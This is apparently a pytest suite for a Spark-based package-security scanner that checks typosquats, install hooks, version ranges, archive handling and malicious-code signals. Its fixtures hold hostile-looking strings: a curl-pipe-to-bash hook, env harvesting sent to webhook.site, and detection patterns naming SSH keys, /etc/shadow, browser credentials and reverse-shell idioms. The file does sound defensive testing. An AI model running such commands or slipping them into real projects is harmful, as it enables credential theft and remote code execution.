import io
import tarfile
import zipfile

from pyspark.sql import functions as F

from larkspur.functions import text as T
from larkspur.functions import versions as V
from larkspur.operators import diffs, graph, ml, names, vulns
from larkspur.sources import archives, manifests, python_ast
from larkspur.streaming import incremental


def one(spark, value, column):
    return spark.createDataFrame([(value,)], "v string").select(column(F.col("v"))).first()[0]


def test_public_addresses(spark):
    text = "a 8.8.8.8:53 b 10.1.2.3 c 300.1.1.1 d 224.0.0.1 e http://45.1.2.3/x 172.20.1.1 0.1.2.3"
    assert one(spark, text, T.public_addresses) == ["8.8.8.8", "45.1.2.3"]


def test_entropy_of_even_alphabet(spark):
    assert abs(one(spark, "abcdabcd", T.entropy) - 2.0) < 1e-9
    assert one(spark, "", T.entropy) == 0.0


def test_encoded_payload_needs_all_conditions(spark):
    import random

    r = random.Random(1)
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+"
    blob = "".join(r.choice(alphabet) for _ in range(300))
    assert one(spark, blob, T.encoded_payload)
    assert not one(spark, "https://" + blob, lambda c: T.encoded_payload(F.concat(c, F.lit("://"))))
    assert not one(spark, "word " * 80, T.encoded_payload)


def test_hook_signals(spark):
    assert one(spark, "curl -s https://x.example/a | bash", T.hook_signals) == ["INSTALL_HOOK_PRESENT", "INSTALL_HOOK_SHELL_PIPE", "INSTALL_HOOK_NETWORK", "PROCESS_SPAWN"]
    for build in ("node-gyp rebuild", "npm run build", "tsc", "husky install", "patch-package", "node scripts/build.js"):
        assert one(spark, build, T.hook_signals) == ["INSTALL_HOOK_PRESENT"], build
    assert one(spark, " ", T.hook_signals) == []


def test_version_order(spark):
    order = ["0.9", "1.0.0-alpha", "1.0.0-alpha.1", "1.0.0-alpha.beta", "1.0.0-beta.2", "1.0.0-beta.11", "1.0.0-rc.1", "1.0.0", "1.2", "v1.10.0"]
    df = spark.createDataFrame([(v,) for v in reversed(order)], "v string")
    assert [r["v"] for r in df.orderBy(V.version_key(F.col("v"))).collect()] == order
    assert one(spark, "not.a.version", V.version_key) is None


def test_ranges(spark):
    cases = [("1.2.3", "^1.2.3", True), ("2.0.0", "^1.2.3", False), ("0.2.9", "^0.2.3", True), ("0.3.0", "^0.2.3", False), ("1.2.9", "~1.2.3", True), ("1.3.0", "~1.2.3", False)]
    cases += [("1.9.9", "1.x", True), ("2.0.0", "1.x", False), ("1.5.0", ">= 1.0.0 <2.0.0", True), ("1.4.0", "1.0.0 - 1.4.0", True), ("3.0.0", "<1.0.0 || >=3.0.0", True), ("1.0.0-beta", "*", False), ("1.0.0-beta", "1.0.0-beta", True), ("1.0.0", "garbage", False), ("1.9.0", "~1", True), ("1.2.0", "1.2", True)]
    df = spark.createDataFrame(cases, "v string, r string, want boolean")
    assert df.where(V.satisfies(F.col("v"), F.col("r")) != F.col("want")).collect() == []


def test_cvss_of_the_worst_network_vector(spark):
    assert abs(one(spark, "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", V.cvss) - 9.8) < 0.05
    assert one(spark, "CVSS:2.0/AV:N", V.cvss) is None


def test_weighted_distance():
    assert names.weighted_distance("requests", "reqeusts", 2.0) == 0.6
    assert names.weighted_distance("lodash", "lodaah", 2.0) == 0.6
    assert names.weighted_distance("abc", "abcdefg", 2.0) == 3.0
    assert names.weighted_distance("flask", "flask", 2.0) == 0.0
    assert names.weighted_distance("qqqqqq", "mmmmmm", 2.0) == 3.0


def test_typosquat_precedence(spark):
    c = spark.createDataFrame([("lodahs",), ("lodash",), ("m0ment",), ("left_pad",), ("@evil/react",), ("numpy2",), ("ab",)], "name string")
    p = spark.createDataFrame([("lodash",), ("moment",), ("left-pad",), ("react",), ("numpy",)], "name string")
    got = {r["candidate"]: (r["target"], r["kind"]) for r in names.typosquats(c, p).collect()}
    assert got == {"lodahs": ("lodash", "near_miss"), "m0ment": ("moment", "homoglyph"), "left_pad": ("left-pad", "separator"), "@evil/react": ("react", "scope"), "numpy2": ("numpy", "affix")}


def test_closure_with_cycle_and_shared_child(spark):
    e = spark.createDataFrame([(1, 2), (2, 3), (3, 1), (1, 3), (3, 4)], "src long, dst long")
    r = spark.createDataFrame([(1,)], "node long")
    assert {(x["node"], x["depth"]) for x in graph.closure(e, r).collect()} == {(1, 0), (2, 1), (3, 1), (4, 2)}
    paths = {x["target"]: x["path"] for x in graph.proof_paths(e, r, e.selectExpr("dst AS node")).collect()}
    assert paths[4] == "1 > 3 > 4"


def test_components_of_a_chain(spark):
    e = spark.createDataFrame([(i, i + 1) for i in range(20)] + [(100, 101)], "src long, dst long")
    n = spark.createDataFrame([(i,) for i in [*range(21), 100, 101, 200]], "node long")
    got = {r["node"]: r["component"] for r in graph.components(e, n).collect()}
    assert got == {**dict.fromkeys(range(21), 0), 100: 100, 101: 100, 200: 200}


def test_dedupe_carries_the_fix(spark):
    rows = [("p", "A", "CVE-1", "HIGH", 7.5, 2, "long text", None, 1), ("p", "B", "CVE-1", "LOW", None, 0, "x", "1.2.0", 2), ("p", "C", None, "LOW", None, 0, "x", None, 3), ("p", "D", None, "LOW", None, 0, "x", None, 4)]
    df = spark.createDataFrame(rows, "package string, id string, cve string, severity string, cvss double, n_symbols int, summary string, fixed string, ord long")
    got = {r["cve_or_id"]: (r["id"], r["fixed"], r["records"]) for r in vulns.deduplicated(df).collect()}
    assert got == {"CVE-1": ("A", "1.2.0", 2), "C": ("C", None, 1), "D": ("D", None, 1)}


def test_curves_with_ties(spark):
    df = spark.createDataFrame([(1, 0.9), (0, 0.9), (1, 0.5), (0, 0.1)], "label int, score double")
    assert abs(ml.average_precision(df).first()[0] - (0.5 * 0.5 + 0.5 * 2 / 3)) < 1e-9
    assert abs(ml.roc_auc(df).first()[0] - 0.625) < 1e-9


def test_digest_check(spark):
    df = spark.createDataFrame([("x",)], "c string").select(diffs.digest_matches(F.col("c").cast("binary"), F.lit(None).cast("string"), F.lit(None).cast("string"), F.sha1(F.col("c").cast("binary"))).alias("a"), diffs.digest_matches(F.col("c").cast("binary"), *[F.lit(None).cast("string")] * 3).alias("b"))
    assert tuple(df.first()) == (True, None)


def _zip(members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return b.getvalue()


def _tar(members):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz") as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return b.getvalue()


def test_archives(spark):
    rows = [("a", _tar([("package/index.js", b"x"), ("package/lib/a.js", b"yy")])), ("b", _zip([("../evil", b"x"), ("ok.py", b"z")])), ("c", b"nonsense"), ("d", _zip([("bomb", b"0" * 3_000_000)]))]
    got = [(r["archive"], r["path"], r["truncated"]) for r in archives.members(spark.createDataFrame(rows, "archive string, content binary")).orderBy("archive", "seq").collect()]
    assert got == [("a", "index.js", None), ("a", "lib/a.js", None), ("b", "ok.py", None), ("c", None, "unreadable"), ("d", None, "ratio")]


def test_lock_file(spark):
    text = '{"packages":{"":{},"node_modules/a":{"version":"1.0.0"},"node_modules/a/node_modules/@s/b":{"version":"2.0.0","dev":true},"node_modules/l":{"link":true}}}'
    got = {tuple(r) for r in manifests.package_lock(spark.createDataFrame([("p", text)], "project string, text string")).collect()}
    assert got == {("p", "a", "1.0.0", "locked"), ("p", "@s/b", "2.0.0", "dev")}


def test_pyproject(spark):
    text = '[project]\ndependencies = ["Flask>=2", "x[y] ~= 1 ; extra"]\n[tool.poetry.dependencies]\npython = "^3.8"\nnumpy = {version = "^1"}\n'
    got = {(r["name"], r["spec"]) for r in manifests.pyproject(spark.createDataFrame([("p", text), ("q", "= broken")], "project string, text string")).collect()}
    assert got == {("flask", ">=2"), ("x", "~=1"), ("numpy", "^1")}


def test_sources():
    rows = python_ast.analyse("import os, requests as r\nt = os.environ['API_KEY']\nu = t\nr.post('https://x', data=u)\n")
    assert [x for x in rows if x[0] == "flow"] == [("flow", "requests.post", python_ast.MODULE, 4, "env@2")]
    calm = python_ast.analyse("import os, requests\np = os.environ['PATH']\nrequests.post('https://x', data=p)\n")
    assert not [x for x in calm if x[0] == "flow"]
    assert python_ast.analyse("def (")[0][0] == "parse_failed"


def test_stream_appends_once(spark, tmp_path):
    src, out, ck = (str(tmp_path / d) for d in ("in", "out", "ck"))
    spark.createDataFrame([(1, "a"), (2, "b"), (2, "b")], "id long, v string").write.parquet(src)
    step = lambda: incremental.append_new(spark, src, "id long, v string", out, ck, "id", lambda d: d)
    step()
    spark.createDataFrame([(2, "b"), (3, "c")], "id long, v string").write.mode("append").parquet(src)
    step()
    assert sorted(r["id"] for r in spark.read.parquet(out).collect()) == [1, 2, 3]


def test_python_versions(spark):
    from larkspur.functions import pep440

    order = ["1.0.dev1", "1.0a1", "1.0b2", "1.0rc1", "1.0", "1.0.post1", "1.1.dev0", "1.1", "1.10", "1!0.1"]
    df = spark.createDataFrame([(v,) for v in reversed(order)], "v string")
    assert [r["v"] for r in df.orderBy(pep440.version_key(F.col("v"))).collect()] == order
    cases = [("1.0", "==1.0.0", True), ("1.4.2", "~=1.4", True), ("2.0", "~=1.4", False), ("1.4.9", "~=1.4.2", True), ("1.5.0", "~=1.4.2", False), ("1.4.5", "==1.4.*", True), ("1.4.5", "!=1.4.*", False), ("2.0", ">=1, <3", True), ("3.0", ">=1,<3", False), ("1.0", "", True), ("1.0", "nonsense", False), ("3.0a1", "<3", False)]
    rows = spark.createDataFrame(cases, "v string, s string, want boolean")
    assert rows.where(pep440.satisfies(F.col("v"), F.col("s")) != F.col("want")).collect() == []
    asked = spark.createDataFrame([("p", ">=1"), ("p", ">=2.9"), ("p", ">=9")], "name string, spec string")
    have = spark.createDataFrame([("p", "1.0"), ("p", "2.5"), ("p", "3.0b1")], "name string, version string")
    assert {(r["spec"], r["version"]) for r in pep440.resolve(asked, have).collect()} == {(">=1", "2.5"), (">=2.9", "3.0b1"), (">=9", None)}


def test_registry_documents(spark):
    import json

    from larkspur.sources import registry

    npm = {"name": "a", "repository": {"type": "git", "url": "git+https://github.com/a/a.git"}, "maintainers": [{"name": "x"}], "time": {"1.0.0": "2020-01-01T00:00:00.000Z"}, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {"scripts": {"postinstall": "node x", "test": "jest"}, "dependencies": {"b": "^1"}, "dist": {"tarball": "u"}}}}
    r = registry.npm_metadata(spark.createDataFrame([(json.dumps(npm),), ("{broken",)], "text string")).collect()
    assert len(r) == 1 and r[0]["install_scripts"] == {"postinstall": "node x"} and r[0]["repository_url"] == "https://github.com/a/a" and r[0]["dependency_names"] == ["b"] and r[0]["maintainer_count"] == 1
    pypi = {"info": {"name": "P", "project_urls": {"Source Code": "https://s"}, "requires_dist": ["x>=1", "y; extra == 'z'"], "author": "me"}, "releases": {"1.0": [{"filename": "p-1.0-cp39.whl", "packagetype": "bdist_wheel"}, {"filename": "p-1.0-py3-none-any.whl", "packagetype": "bdist_wheel"}]}}
    r = registry.pypi_metadata(spark.createDataFrame([(json.dumps(pypi),)], "text string")).first()
    assert r["repository_url"] == "https://s" and r["dependency_names"] == ["x"] and r["dist"]["filename"] == "p-1.0-py3-none-any.whl" and r["maintainer_count"] == 1
    asked = spark.createDataFrame([("a", "latest"), ("a", "^1.0.0"), ("a", "1.2.0"), ("a", "git+https://x"), ("a", "^7")], "name string, spec string")
    have = spark.createDataFrame([("a", v) for v in ("1.0.0", "1.2.0", "2.0.0")], "name string, version string")
    tags = spark.createDataFrame([("a", "latest", "2.0.0")], "name string, tag string, version string")
    got = {r["spec"]: r["version"] for r in registry.resolve_npm(asked, have, tags).collect()}
    assert got == {"latest": "2.0.0", "^1.0.0": "1.2.0", "1.2.0": "1.2.0", "git+https://x": None, "^7": None}


def test_javascript_signals(spark):
    from larkspur.sources import javascript

    rows = [("a.js", "const {exec} = require('child_process'); exec(cmd); const e = process.env; fetch('https://webhook.site/x')"), ("b.js", "const v = process.env.HOME;"), ("c.js", "String.fromCharCode(1);String.fromCharCode(1);String.fromCharCode(1);String.fromCharCode(1);String.fromCharCode(1)")]
    got = {}
    for r in javascript.code_signals(spark.createDataFrame(rows, "path string, source string")).collect():
        got.setdefault(r["path"], set()).add(r["code"])
    assert got["a.js"] == {"PROCESS_SPAWN", "SHELL_TRUE", "ENV_ACCESS", "ENV_BULK_HARVEST", "NETWORK_ACCESS", "SUSPICIOUS_ENDPOINT"}
    assert got["b.js"] == {"ENV_ACCESS"} and got["c.js"] == {"CHARCODE_OBFUSCATION"}


def test_stores(spark, tmp_path):
    import pytest

    from larkspur.sources import store

    path = str(tmp_path / "m.csv")
    with open(path, "w") as f:
        f.write("sample_id,label,group,f1,f2\na,1,g,0.5,1\nb,0,g,0.1\nc,0,h,2,3\n")
    assert sorted(r["sample_id"] for r in store.read_matrix(spark, path, ["f1", "f2"]).collect()) == ["a", "c"]
    with pytest.raises(ValueError):
        store.read_matrix(spark, path, ["f2", "f1"])
    page = store.report(spark.createDataFrame([("<script>", 0.9)], "package string, score double"), "x & y")
    assert "<script>" not in page and "&lt;script&gt;" in page and "x &amp; y" in page
    scans = lambda *rows: spark.createDataFrame(rows, "v string, scan_id string")
    out = str(tmp_path / "scans")
    store.upsert_scans(spark, out, scans(("a", "1"), ("b", "2")))
    store.upsert_scans(spark, out, scans(("c", "2")))
    assert sorted(r["v"] for r in spark.read.parquet(out).collect()) == ["a", "c"]
    v = spark.createDataFrame([("x", b"1", "bad"), ("y", None, "bad")], "sample_id string, content binary, sha256 string")
    assert {tuple(r) for r in store.vault_problems(v).collect()} == {("x", "corrupt"), ("y", "missing")}


def test_required_literals():
    assert T.required_literals(r"[/\\]Login Data\b|a\.b?c+|(x|y)zz") == ["login data", "a.", "zz"]
    assert T.required_literals(r"sub\s*\([^)]*std(in|out)\s*=") == ["sub"]


def test_prefilter_changes_nothing(spark):
    from larkspur.functions import patterns as P

    texts = ["~/.SSH/id_rsa", "C:\\Login Data", "x /etc/shadow", "no such thing", "Start Menu/Programs/Startup", "os.dup2(s.fileno(), 0)", "subprocess.run(a, stdin=sock)", "nc -l host 80 -e", "DISCORD.com/api/webhooks/1", ".env.local", "seed phrase", "whoami", "", "powershell -nop -c New-Object System.Net.Sockets.X"]
    df = spark.createDataFrame([(t,) for t in texts], "t string")
    for family in (P.SENSITIVE_PATHS, P.CRYPTO_WALLETS, P.PERSISTENCE, P.ENDPOINTS, P.REVERSE_SHELLS, P.HOST_RECON):
        plain = F.col("t").rlike("(?i)" + "|".join(f"({p})" for p in family))
        assert df.where(T.holds_any(F.col("t"), family) != plain).collect() == []


def test_closure_and_paths_beyond_six_steps(spark):
    """A chain of twelve that ends in a cycle."""
    chain = [(i, i + 1) for i in range(12)] + [(12, 3)]
    e, r = spark.createDataFrame(chain, "src long, dst long"), spark.createDataFrame([(0,)], "node long")
    assert {(x["node"], x["depth"]) for x in graph.closure(e, r).collect()} == {(i, i) for i in range(13)}
    assert {x["node"] for x in graph.closure(e, r, 6).collect()} == set(range(7))
    paths = {x["target"]: x["path"] for x in graph.proof_paths(e, r, e.selectExpr("dst AS node")).collect()}
    assert paths == {i: " > ".join(map(str, range(i + 1))) for i in range(1, 13)}


def test_javascript_signals_of_long_sources(spark):
    """A bundle above a million characters, whose beginning is one literal; a long payload; long arrays of strings."""
    from larkspur.sources import javascript

    payload = "".join("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+="[i * i * 7 % 64 ^ i % 61] for i in range(9000))
    array = "[" + ",".join(f"'s{i}'" for i in range(60)) + "]"
    long = "const p = '~/.npmrc';" + "const a = 1;\n" * 100_000 + "require('child_process').exec(x)"
    rows = [("payload.js", f"const p = '{payload}';"), ("long.js", long), ("array.js", f"var a = {array}; eval(a[0])"), ("few.js", "var a = ['x', 'y']; eval(a[0])"), ("plain.js", f"var a = {array};")]
    files = spark.createDataFrame(rows, "path string, source string")
    got = {}
    for r in javascript.code_signals(files).collect():
        got.setdefault(r["path"], set()).add(r["code"])
    assert got == {"payload.js": {"HIGH_ENTROPY_STRING"}, "long.js": {"SENSITIVE_PATH_ACCESS"}, "array.js": {"STRING_ARRAY_DECODER", "DYNAMIC_EVAL"}, "few.js": {"DYNAMIC_EVAL"}}
    assert {r["path"]: r["specifier"] for r in javascript.imports(files).collect()} == {"long.js": "child_process"}


def test_lock_file_of_version_1(spark):
    text = '{"lockfileVersion":1,"dependencies":{"a":{"version":"1.0.0","requires":{"b":"^2"},"dependencies":{"@s/b":{"version":"2.0.0","dev":true,"dependencies":{"c":{"version":"3.0.0"}}}}}}}'
    rows = [("p", text), ("q", "no json"), ("r", None), ("s", "{}")]
    got = {tuple(r) for r in manifests.package_lock(spark.createDataFrame(rows, "project string, text string")).collect()}
    assert got == {("p", "a", "1.0.0", "locked"), ("p", "@s/b", "2.0.0", "dev"), ("p", "c", "3.0.0", "locked")}


def test_python_literals(spark):
    from larkspur.sources import python_ast

    payload = "".join("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+="[i * i * 7 % 64 ^ i % 61] for i in range(9000))
    rows = [("a.py", f"x = 1\np = '{payload}'\n"), ("b.py", "u = 'https://webhook.site/x'"), ("c.py", "v = 'plain'")]
    got = {(r["path"], r["code"], r["line"]) for r in python_ast.code_signals(python_ast.facts(spark.createDataFrame(rows, "path string, source string"))).collect()}
    assert got == {("a.py", "HIGH_ENTROPY_STRING", 2), ("b.py", "SUSPICIOUS_ENDPOINT", 1)}
